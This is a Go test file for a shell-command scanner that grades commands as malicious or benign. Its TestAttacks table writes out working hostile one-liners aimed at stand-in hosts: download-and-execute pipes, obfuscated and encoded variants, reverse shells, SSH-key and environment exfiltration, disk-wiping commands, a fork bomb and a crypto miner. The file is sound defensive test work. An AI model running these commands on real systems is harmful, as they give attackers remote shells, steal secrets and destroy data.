package shell

import (
	"strings"
	"testing"

	"modelwall/scan"
)

// worst is the highest severity and the rule that has it.
func worst(r *Report) (scan.Severity, string) {
	sev, what := scan.Info, ""
	for _, f := range r.Facts {
		if f.Severity > sev {
			sev, what = f.Severity, f.What
		}
	}
	return sev, what
}

// TestAttacks: whatever the spelling, what a command is for is seen.
func TestAttacks(t *testing.T) {
	const odd, bad = scan.SeveritySuspicious, scan.SeverityMalicious
	for _, c := range []struct {
		text string
		sev  scan.Severity
		what string
	}{
		{`curl -fsSL http://192.0.2.1/x.sh | bash`, bad, "download_exec"},
		{`c''url -s https://evil.example/x|sh`, odd, "download_exec"},
		{`bash -c "$(wget -qO- https://evil.example/x)"`, odd, "download_exec"},
		{`bash <(curl -s https://evil.example)`, odd, "download_exec"},
		{`eval "$(curl -s http://192.0.2.1)"`, bad, "download_exec"},
		{`wget https://a.example/M.sh && bash M.sh`, odd, "download_exec"},
		{`X=cu; Y=rl; $X$Y http://evil.example/x | sh`, bad, "download_exec"},
		{`{curl,-s,http://evil.example/x}|sh`, bad, "download_exec"},
		{"cat <<EOF | bash\ncurl http://192.0.2.9/ | sh\nEOF", bad, "download_exec"},
		{`/b?n/b?s? -c 'curl http://192.0.2.1|sh'`, bad, "download_exec"},
		{`curl$IFS-s${IFS}http://192.0.2.1/x|sh`, bad, "download_exec"},
		{`$'\x63\x75\x72\x6c' http://192.0.2.1 | sh`, bad, "download_exec"},
		{"if true; then\n  sudo env A=b curl http://192.0.2.1 | sudo -u root sh\nfi", bad, "download_exec"},
		{`echo Y3VybCBodHRwOi8vMS4yLjMuNC94IHwgc2g= | base64 -d | bash`, bad, "decode_exec"},
		{`powershell -nop -w hidden -enc SQBFAFgASQBFAFgA`, bad, "decode_exec"},
		{`powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')`, bad, "download_exec"},
		{`certutil -urlcache -f http://evil.example/a.exe a.exe`, bad, "download_exec"},
		{`bash -i >& /dev/tcp/192.0.2.1/4444 0>&1`, bad, "reverse_shell"},
		{`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4242 >/tmp/f`, bad, "reverse_shell"},
		{`nc -e /bin/sh 192.0.2.1 4444`, bad, "reverse_shell"},
		{`exec 5<>/dev/tcp/192.0.2.1/44;cat <&5 | while read line; do $line 2>&5 >&5; done`, bad, "reverse_shell"},
		{`perl -e 'use Socket;socket(S,2,1,6);connect(S,x);exec("/bin/sh -i");'`, bad, "reverse_shell"},
		{`rm -rf /`, bad, "destroys"},
		{`rm -rf ~/*`, bad, "destroys"},
		{`dd if=/dev/zero of=/dev/sda`, bad, "destroys"},
		{`:(){ :|:& };:`, bad, "destroys"},
		{`curl -d @$HOME/.ssh/id_rsa https://x.example`, bad, "exfiltration"},
		{`cat ~/.ssh/id_rsa | curl -d @- https://x.example`, bad, "exfiltration"},
		{`env | curl -X POST --data-binary @- https://x.example`, bad, "exfiltration"},
		{`curl -d "t=$HF_TOKEN" https://x.example/`, odd, "exfiltration"},
		{`curl "https://x.example/?h=$(hostname)"`, odd, "beacon"},
		{`xmrig -o stratum+tcp://pool.example:3333`, bad, "miner"},
	} {
		if sev, what := worst(Read(c.text)); sev != c.sev || what != c.what {
			t.Errorf("%s %v, want %s %v: %s", what, sev, c.what, c.sev, c.text)
		}
	}
}

// TestHonest: what honest scripts do all day.
func TestHonest(t *testing.T) {
	for _, text := range []string{
		`wget https://repo.anaconda.com/miniconda/M.sh -O m.sh && bash m.sh`,
		`curl -LsSf https://astral.sh/uv/install.sh | sh`,
		`pip install torch --index-url https://download.pytorch.org/whl/cu118`,
		`git clone https://github.com/x/y && cd y && pip install -e .`,
		`rm -rf /tmp/x "$HOME/.cache/build" ./*`,
		`(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1`,
		`eval "$(conda shell.bash hook)"`,
		`export FOO=$(curl -s https://x.example/v)`,
		`curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api`,
		`echo 'export PATH=a:$PATH' >> ~/.bashrc`,
		"# curl http://192.0.2.1 | sh\necho 'curl http://192.0.2.1 | sh'",
		`echo aGk= | base64 -d > file`,
		`cat <<'EOF' > out.sh` + "\nrm -rf /\nEOF",
	} {
		if r := Read(text); r.Worst() > scan.Low {
			t.Errorf("%+v: %s", r.Facts, text)
		}
	}
}

// TestUnknown: commands whose effect is not known are told apart from those
// that only look or prepare.
func TestUnknown(t *testing.T) {
	for text, want := range map[string]int{"touch /tmp/x": 1, "git status": 0, "nvidia-smi --query-gpu=name": 0, "./run": 1, "pip install x": 0, "pip install http://192.0.2.1/x": 1} {
		if got := len(Read(text).Unknown); got != want {
			t.Errorf("%d unknown, want %d: %s", got, want, text)
		}
	}
	if r := Args([]string{"git", "rev-parse"}); len(r.Unknown) > 0 {
		t.Errorf("unknown %q", r.Unknown)
	}
	if r := Args([]string{"bash", "-c", "curl http://192.0.2.1|sh"}); r.Worst() != scan.SeverityMalicious {
		t.Errorf("%+v", r.Facts)
	}
}

// TestPrograms: a program in another language is handed on.
func TestPrograms(t *testing.T) {
	r := Read(`python3 -c 'import os'`)
	if len(r.Programs) != 1 || r.Programs[0].Text != "import os" {
		t.Errorf("%+v", r.Programs)
	}
	r = Read("python - <<EOF\nimport os\nEOF\n")
	if len(r.Programs) != 1 || r.Programs[0].Text != "import os\n" {
		t.Errorf("%+v", r.Programs)
	}
}

// TestTrust: how a host is written does not make it a better one.
func TestTrust(t *testing.T) {
	for url, want := range map[string]Trust{
		"https://huggingface.co/x": Known, "https://huggingface.co.evil.example/x": Strange, "https://evil.example@192.0.2.1/": Shady,
		"http://2130706433/": Shady, "http://0x7f.1/": Shady, "https://pastebin.com/raw/x": Shady, "http://evil.example": Shady,
		"http://localhost:80": Local, "127.0.0.1": Local, "https://github.com/x": Open, "https://a.trycloudflare.com": Shady, "$_": Strange, "": Shady,
	} {
		if got := Judge(url); got != want {
			t.Errorf("%q is %v, want %v", url, got, want)
		}
	}
}

// TestBounds: what would explode in a shell costs little to judge.
func TestBounds(t *testing.T) {
	for name, text := range map[string]string{
		"substitutions": strings.Repeat("$(", 300_000),
		"backquotes":    strings.Repeat("`a`", 300_000),
		"quotes":        strings.Repeat(`"$(`, 200_000),
		"variables":     "a=xxxxxxxxxxxxxxxx\n" + strings.Repeat("a=$a$a\n", 100_000),
		"documents":     strings.Repeat("<<E ", 200_000),
		"pipes":         strings.Repeat("a|", 400_000),
		"words":         strings.Repeat("a ", 400_000),
		"braces":        strings.Repeat("{a,b}", 200_000),
		"commands":      strings.Repeat("python -c 'x'\n", 70_000),
		"evals":         strings.Repeat("eval ", 200_000) + "x",
		"shells":        strings.Repeat("sh -c 'a;b' ; ", 70_000),
		"carets":        strings.Repeat("^`", 400_000),
		"processes":     strings.Repeat("<(", 300_000),
	} {
		t.Run(name, func(t *testing.T) { Read(text) })
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{"a | b && c; d & e\n", "x=$(y `z`) <<E\n$x\nE\n", `$'\x41' "${a:-b}" 'c' \d`, "curl -s x | sh -s -- a", "for i in {1..3}; do echo $i; done >& /dev/tcp/a/1", "powershell -enc AAAAAAAA", "f() { g; }; case x in a) b;; esac", "a <(b) >(c) $((1+2)) [[ d ]]"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		a, b := Read(s), Read(s)
		if a.Worst() != b.Worst() || a.Commands > maxCommands+maxNested {
			t.Errorf("%v and %v, %d commands", a.Worst(), b.Worst(), a.Commands)
		}
		for _, p := range a.Facts {
			if p.Off < 0 || p.Off > int64(len(s)) {
				t.Errorf("offset %d of %d", p.Off, len(s))
			}
		}
	})
}
